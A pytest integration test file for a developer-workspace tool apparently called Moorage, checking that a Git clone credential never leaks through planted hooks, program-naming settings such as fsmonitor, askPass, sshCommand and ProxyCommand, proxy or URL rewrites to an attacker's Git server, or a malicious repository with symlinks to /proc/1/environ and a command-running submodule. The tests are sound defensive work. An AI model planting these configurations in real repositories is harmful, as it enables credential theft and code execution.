"""Whoever may create a workspace tries to read the credential that its repository is cloned with,
on a real engine with real Git."""

from __future__ import annotations

import contextlib
import os
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest

from integration.runtimes import attacks
from integration.runtimes.git_server import PASSWORD, GitServer, commit, run
from integration.runtimes.worlds import (
    Agent,
    DockerWorld,
    bridge_address,
    desired_of,
    docker,
    inspect,
    simple_spec,
)
from moorage.agent.runtimes.port import ExecRequest
from moorage.contract import Container, DesiredWorkspace, Project, Volume, VolumeMount
from moorage.kernel.ids import short_id

pytestmark = pytest.mark.docker


@pytest.fixture
def evil(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GitServer]:
    """The attacker's own host, which asks everybody for a password."""
    server = GitServer(tmp_path_factory.mktemp("evil"))
    yield server
    server.close()


async def sh(agent: Agent, desired: DesiredWorkspace, command: str, container: str = "") -> str:
    request = ExecRequest(argv=("sh", "-c", command), container=container)
    async with agent.runtime.execute(desired.name, request, desired.spec) as session:
        text = b"".join([chunk.data async for chunk in session.output()]).decode()
        assert await session.exit_code() == 0, text
        return text.strip()


def asked_for(world: DockerWorld, name: str = "private-app") -> Project:
    """The project whose repository only the installation's credential opens."""
    return Project(name="app", clone_path="app", url=world.url(name), credential=world.credential())


def contents(desired: DesiredWorkspace) -> bytes:
    """All names and files of the volumes that the workspace's containers can reach."""
    listed = docker(
        "volume", "ls", "-q", "--filter", f"label=moorage.dev/workspace={desired.name}"
    ).split()
    found = b""
    for volume in listed:
        if volume.endswith(".clone_"):
            continue
        place = Path(docker("volume", "inspect", "-f", "{{.Mountpoint}}", volume))
        # containers may take away what was there a moment ago
        for folder, _, names in os.walk(place):
            for name in names:
                path = Path(folder, name)
                found += str(path).encode()
                with contextlib.suppress(OSError):
                    found += path.read_bytes() if path.is_file() and not path.is_symlink() else b""
    return found


def assert_kept(desired: DesiredWorkspace, *elsewhere: GitServer) -> None:
    """The credential is in no file of the workspace, in no log, and was told to nobody else."""
    held = contents(desired)
    for form in attacks.FORMS:
        assert form.encode() not in held
    for container in docker(
        "ps", "-aq", "--filter", f"label=moorage.dev/workspace={desired.name}"
    ).split():
        assert PASSWORD not in docker("logs", container)
        assert PASSWORD not in str(inspect(container))
    for server in elsewhere:
        assert server.told == []


async def planted(world: DockerWorld, script: str) -> tuple[Agent, DesiredWorkspace]:
    """A workspace whose owner has run `script` in the clone, and has noted there that it is not
    complete."""
    agent = await world.agent()
    desired = desired_of(world, spec=simple_spec(world, projects=(asked_for(world),)))
    progress = await agent.start(desired)
    assert progress.ready, progress.fault
    evil = f"printf '#!/bin/sh\\n{attacks.LEAK}\\n' >/projects/evil; chmod 755 /projects/evil; rm -rf /projects/leak"
    note = "echo mine >work.txt; rm hello.txt; touch .git/moorage-incomplete"
    await sh(agent, desired, f"set -e; {evil}; {script}; {note}")
    return agent, desired


async def restarted(agent: Agent, desired: DesiredWorkspace) -> DesiredWorkspace:
    """As `moor restart` does."""
    again = msgspec.structs.replace(
        desired, restarts=desired.restarts + 1, generation=desired.generation + 1
    )
    progress = await agent.start(again)
    assert progress.ready, progress.fault
    return again


@pytest.mark.parametrize(
    "script",
    [
        attacks.HOOKS,
        "mkdir -p /projects/hooks; ln -s /projects/evil /projects/hooks/post-checkout; git config core.hooksPath /projects/hooks",
        "printf '[core]\\nfsmonitor = /projects/evil\\n' >/projects/included; git config include.path /projects/included",
        "echo '* filter=evil' >.gitattributes; git config filter.evil.smudge /projects/evil; git config filter.evil.required true",
        "git config core.fsmonitor /projects/evil",
        "git config core.askPass /projects/evil; git config --add credential.helper '!/projects/evil'",
        "git config core.sshCommand /projects/evil; git remote set-url origin ssh://x@127.0.0.1/x",
        "git config remote.origin.vcs /projects/evil; git config remote.origin.uploadpack /projects/evil",
        "mkdir ~/.ssh; printf 'Host *\\nProxyCommand /projects/evil\\n' >~/.ssh/config; git remote set-url origin ssh://x@127.0.0.1/x",
        "printf '[core]\\nfsmonitor = /projects/evil\\n' >~/.gitconfig; cp ~/.gitconfig /projects/.gitconfig",
    ],
    ids=[
        "hooks",
        "hooksPath",
        "include",
        "filter",
        "fsmonitor",
        "askPass",
        "sshCommand",
        "vcs",
        "ssh-config",
        "home",
    ],
)
async def test_no_program_of_the_owners_runs_beside_the_credential(
    docker_world: DockerWorld, script: str
) -> None:
    """By hooks, by any setting that names a program, and by files that such settings include: a
    restart runs none of it, although the clone claims to be unfinished. What the owner had there is
    kept."""
    agent, desired = await planted(docker_world, script)
    desired = await restarted(agent, desired)
    assert await sh(agent, desired, "ls /projects/leak 2>/dev/null | wc -l") == "0"
    assert_kept(desired)
    assert (
        await sh(
            agent,
            desired,
            "cat hello.txt; git -c core.fsmonitor=false status --porcelain; cat /projects/.moorage/set-aside/*/work.txt",
        )
        == "hello 0\nmine"
    )


async def test_a_sandbox_that_the_engine_starts_again(docker_world: DockerWorld) -> None:
    """It is given the credential anew when a clone is to be made, and runs nothing of the owner's
    either; when the clone is there, it waits for nothing."""
    agent, desired = await planted(docker_world, attacks.HOOKS)
    for folder in ("set-aside", "clone"):
        docker("restart", "-t", "1", f"{desired.name}.sandbox")
        progress = await agent.settled(desired)
        assert progress.ready, progress.fault
        assert (await agent.start(desired)).ready
        assert folder in await sh(agent, desired, "cat hello.txt; ls /projects/.moorage")
        assert await sh(agent, desired, "ls /projects/leak 2>/dev/null | wc -l") == "0"
        assert_kept(desired)


@pytest.mark.parametrize("how", ["proxy", "insteadOf", "remote", "pushurl"])
async def test_no_host_of_the_owners_is_told_the_credential(
    docker_world: DockerWorld, evil: GitServer, how: str
) -> None:
    """A proxy, a rewritten URL or another remote in the clone's settings leads Git nowhere while it
    has the credential."""
    address = f"http://{bridge_address()}:{evil.port}"
    script = {
        "proxy": f"git config http.proxy {address}; git config http.{docker_world.url('private-app')}.proxy {address}",
        "insteadOf": f"git config url.{address}/private.insteadOf http://{bridge_address()}:{docker_world.git.port}/private",
        "remote": f"git config remote.origin.url {address}/private-app.git",
        "pushurl": f"git config remote.origin.pushurl {address}/private-app.git; git config remote.pushDefault origin",
    }[how]
    agent, desired = await planted(docker_world, script)
    desired = await restarted(agent, desired)
    assert_kept(desired, evil)
    assert evil.requests == []


@pytest.mark.parametrize(
    ("mode", "target"),
    [("hooks", ""), ("config", ""), ("hosts", ""), ("links", "/clone"), ("links", "/tmp/moorage")],
)
async def test_a_side_container_that_meddles_all_the_time(
    docker_world: DockerWorld, git: GitServer, evil: GitServer, mode: str, target: str
) -> None:
    """A foreign devfile's side container plants hooks, settings and other hosts, or links into the
    sandbox, while the company's project is cloned beside it, over several restarts: nothing of it
    is run or followed, and nobody learns the credential."""
    attacks.add_deep(git)
    evil.add("own")
    side = Container(
        name="side",
        image=docker_world.image,
        command=("/bin/sh", "-c", attacks.SABOTAGE),
        env={
            "LEAK": attacks.LEAK,
            "MODE": mode,
            "TARGET": target,
            "EVIL": f"http://{bridge_address()}:{evil.port}",
            "HOST": f"http://{bridge_address()}:{git.port}",
        },
    )
    main = Container(name="py", image=docker_world.image, override_command=True)
    own = Project(name="own", clone_path="own", url=evil.url("own", bridge_address()))
    spec = simple_spec(
        docker_world,
        containers=(main, side),
        projects=(asked_for(docker_world, "private-deep"), own),
    )
    agent = await docker_world.agent()
    desired = desired_of(docker_world, spec=spec)
    for restarts in range(3):
        desired = msgspec.structs.replace(desired, restarts=restarts, generation=restarts + 1)
        await agent.start(desired)
        assert_kept(desired, evil)
        assert not [path for path in evil.requests if "private" in path]
        places = "ls -A /projects/leak /clone /tmp/moorage 2>/dev/null; true"
        found = docker("exec", f"{desired.name}.sandbox", "sh", "-c", places)
        assert "leak" not in found
        assert "file" not in found, "a planted link was followed"
        again = "rm -rf /projects/app /projects/.moorage; true"
        docker("exec", f"{desired.name}.py", "sh", "-c", again, check=False)


async def test_a_malicious_repository(docker_world: DockerWorld, git: GitServer) -> None:
    """Links in the tree to the sandbox's folders are links afterwards; filters, submodules and
    files called like Git's do nothing."""
    bare = git.add(f"private-evil-{short_id()}")
    work = bare.parent / bare.name.replace(".git", ".work")
    for name, link in {
        "run": "/tmp/moorage",
        "stage": "/clone",
        "up": "../../..",
        "credentials": "/proc/1/environ",
    }.items():
        (work / name).symlink_to(link)
    (work / ".gitattributes").write_text("* filter=evil diff=evil\n")
    (work / ".gitmodules").write_text(
        f'[submodule "m"]\n\tpath = m\n\turl = http://{bridge_address()}:{git.port}/private-app.git\n\tupdate = !{attacks.LEAK}\n'
    )
    (work / "hooks").mkdir()
    (work / "hooks/post-checkout").write_text(f"#!/bin/sh\n{attacks.LEAK}\n")
    (work / "hooks/post-checkout").chmod(0o755)
    commit(work, "evil")
    head = run("git", "-C", str(work), "rev-parse", "HEAD").strip()
    run("git", "-C", str(work), "update-index", "--add", "--cacheinfo", f"160000,{head},m")
    run(
        "git",
        "-C",
        str(work),
        "-c",
        "user.name=T",
        "-c",
        "user.email=t@example.org",
        "commit",
        "-q",
        "-m",
        "submodule",
    )
    run("git", "-C", str(work), "push", "-q", "origin", "HEAD:main")
    agent = await docker_world.agent()
    desired = desired_of(
        docker_world,
        spec=simple_spec(
            docker_world, projects=(asked_for(docker_world, bare.name.removesuffix(".git")),)
        ),
    )
    assert (await agent.start(desired)).ready
    assert await sh(
        agent,
        desired,
        "for l in run stage up credentials; do readlink $l; done; ls m | wc -l; ls /projects",
    ) == ("/tmp/moorage\n/clone\n../../..\n/proc/1/environ\n0\napp")
    assert_kept(desired)


async def test_a_redirect_to_another_repository_gets_nothing(
    docker_world: DockerWorld, git: GitServer
) -> None:
    """The credential is for one path: a host that sends Git to another one, or to another host, is
    not told it there."""
    git.redirects[f"/moved-{short_id()}.git"] = (
        f"http://{bridge_address()}:{git.port}/private-app.git"
    )
    moved = next(iter(git.redirects))
    before = len(git.told)
    agent = await docker_world.agent()
    project = Project(
        name="app",
        clone_path="app",
        url=f"http://{bridge_address()}:{git.port}{moved}",
        credential=docker_world.credential(),
    )
    progress = await agent.start(
        desired_of(docker_world, spec=simple_spec(docker_world, projects=(project,)))
    )
    assert progress.fault is not None
    assert git.told[before:] == []
    git.redirects.clear()


async def test_another_project_of_the_same_host_gets_nothing(
    docker_world: DockerWorld, git: GitServer
) -> None:
    """Beside the project that was asked for, one that the devfile names on the company's host is
    cloned without the credential; what is complete is in its place all the same."""
    other = Project(name="secret", clone_path="secret", url=docker_world.url("private-other"))
    if not (git.folder / "private-other.git").exists():
        git.add("private-other")
    agent = await docker_world.agent()
    desired = desired_of(
        docker_world, spec=simple_spec(docker_world, projects=(asked_for(docker_world), other))
    )
    progress = await agent.start(desired)
    assert progress.fault is not None
    assert progress.fault.code == "clone-refused"
    assert not [path for path in git.told if "private-other" in path]
    assert (
        await sh(agent, desired, "cat /projects/app/hello.txt; ls /projects")
        == "hello 0\napp\nsecret"
    )


async def test_what_git_leaves_is_what_a_person_expects(docker_world: DockerWorld) -> None:
    """The clone's settings name its remote and its branch and nothing of Moorage's; the checkout is
    whole without the network, and Git's own commands see nothing changed."""
    agent = await docker_world.agent()
    desired = desired_of(
        docker_world, spec=simple_spec(docker_world, projects=(asked_for(docker_world),))
    )
    assert (await agent.start(desired)).ready
    # Plumbing looks at the index as it is: files that were copied would all seem changed.
    assert (
        await sh(agent, desired, "git diff-files; git diff-index --quiet HEAD && echo same")
        == "same"
    )
    settings = await sh(agent, desired, "git config --local --list | sort")
    assert settings.split("\n") == [
        "branch.main.merge=refs/heads/main",
        "branch.main.remote=origin",
        "core.bare=false",
        "core.filemode=true",
        "core.logallrefupdates=true",
        "core.repositoryformatversion=0",
        "remote.origin.fetch=+refs/heads/*:refs/remotes/origin/*",
        f"remote.origin.url={docker_world.url('private-app')}",
    ]
    assert await sh(
        agent,
        desired,
        "ls -A /projects /projects/.moorage/clone; ls -A .git | grep -i moorage | wc -l",
    ) == ("/projects:\n.home\n.moorage\napp\n\n/projects/.moorage/clone:\n0")
    assert (
        docker(
            "exec",
            f"{desired.name}.sandbox",
            "sh",
            "-c",
            "ls -A /clone; ls /tmp/moorage | grep -c inbox || true",
        )
        == "0"
    )


async def test_a_volume_inside_of_the_project(docker_world: DockerWorld) -> None:
    """A devfile's volume may be mounted in the project's folder: the clone comes around it, and
    programs that stand in the folder stay in it."""
    main = Container(
        name="py",
        image=docker_world.image,
        override_command=True,
        volume_mounts=(VolumeMount(volume="cache", path="/projects/app/deep/cache"),),
    )
    volumes = (Volume(name="cache"),)
    spec = simple_spec(
        docker_world,
        containers=(main,),
        volumes=volumes,
        projects=(asked_for(docker_world, "private-app"),),
    )
    agent = await docker_world.agent()
    desired = desired_of(docker_world, spec=spec)
    progress = await agent.start(desired)
    assert progress.ready, progress.fault
    assert await sh(
        agent,
        desired,
        "cat hello.txt; touch deep/cache/x; git status --porcelain; grep -c /projects/app/deep/cache /proc/mounts",
    ) == ("hello 0\n?? deep/\n1")


async def test_tools_of_an_earlier_version_get_no_credential(
    docker_world: DockerWorld, tmp_path: Path
) -> None:
    """A tools image that does not know how to keep a credential to itself is not given one, and the
    cause says so."""
    (tmp_path / "Dockerfile").write_text(
        f"FROM {docker_world.image}\nUSER 0\nRUN rm /opt/moorage/bin/workspace-receive\nUSER 5001:0\n"
    )
    old = f"mrtest-old-tools:{short_id()}"
    docker("build", "-q", "-t", old, str(tmp_path))
    settings = msgspec.structs.replace(docker_world.settings, tools_image=old)
    agent = await docker_world.agent(settings)
    desired = desired_of(
        docker_world, spec=simple_spec(docker_world, projects=(asked_for(docker_world),))
    )
    progress = await agent.start(desired)
    assert progress.fault is not None
    assert progress.fault.code == "credential-not-taken"
    assert docker("exec", f"{desired.name}.sandbox", "sh", "-c", "ls /tmp/moorage/inbox*/") == ""
    docker(
        "rm",
        "-f",
        *docker("ps", "-aq", "--filter", f"label=moorage.dev/workspace={desired.name}").split(),
    )
    docker("rmi", "-f", old)
